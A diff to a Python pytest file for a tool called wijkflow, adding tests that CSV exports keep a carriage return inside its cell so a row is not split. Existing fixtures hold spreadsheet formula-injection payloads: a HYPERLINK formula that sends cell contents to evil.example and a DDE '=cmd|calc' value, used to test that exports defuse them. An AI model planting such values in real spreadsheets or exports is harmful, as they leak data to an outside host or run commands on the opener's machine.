@@ -13,11 +13,12 @@ import json
 import re
 
 import pytest
-from conftest import ADMIN, SG1
+import sqlalchemy as sa
+from conftest import ADMIN, PL, SG1
 
 from wijkflow import services
 from wijkflow.reminders.sweep import sweep
-from wijkflow.spreadsheet import spreadsheet_cell
+from wijkflow.spreadsheet import csv_text, spreadsheet_cell
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 EVIL_EMAIL = "=cmd|calc@evil.example"
@@ -104,3 +105,28 @@ def test_json_and_raw_csv_keep_the_text_as_stored(sh, evil):
     r = sh("audit", "query", "--raw-csv", user=ADMIN)
     assert r.returncode == 2 and r.stdout == "" and "--raw-csv goes with --format csv" in r.stderr
     assert "Traceback" not in r.stderr
+
+
+def test_a_cell_with_a_lone_carriage_return_is_quoted_so_the_row_stays_one_row():
+    """Before: csv.writer(lineterminator="\\n") left 'regel 1\\rregel 2' bare, and a reader (Python's csv,
+    a spreadsheet) took the CR for the end of the row."""
+    text = csv_text([["1", "regel 1\rregel 2", "x"], ["2", "a\nb", "y"], ["3", "c\r\nd", "z"]])
+    assert text == '1,"regel 1\rregel 2",x\n2,"a\nb",y\n3,"c\r\nd",z\n'
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [["1", "regel 1\rregel 2", "x"], ["2", "a\nb", "y"],
+                                                               ["3", "c\r\nd", "z"]]
+
+
+def test_every_csv_of_the_command_keeps_a_carriage_return_inside_its_cell(app, people, aanpak, run, db_url):
+    """Input refuses a lone CR today, but a database written before (or by hand) can hold one: a name here."""
+    name = "Fleur\rMensink"
+    engine = sa.create_engine(db_url if "://" in db_url else f"sqlite:///{db_url}")
+    with engine.begin() as conn:
+        conn.execute(sa.text("UPDATE person SET name = :n WHERE email = :e"), {"n": name, "e": PL})
+    engine.dispose()
+    for argv in (["people", "list", "--format", "csv"], ["history", aanpak, "--format", "csv"],
+                 ["audit", "query", "--format", "csv"], ["audit", "query", "--format", "csv", "--raw-csv"]):
+        r = run(*argv, user=ADMIN)
+        assert r.exit_code == 0, r.stderr
+        rows = list(csv.reader(io.StringIO(r.stdout, newline="")))
+        assert len({len(row) for row in rows}) == 1, (argv, r.stdout)  # no row split in two
+        assert name in [c for row in rows for c in row], argv
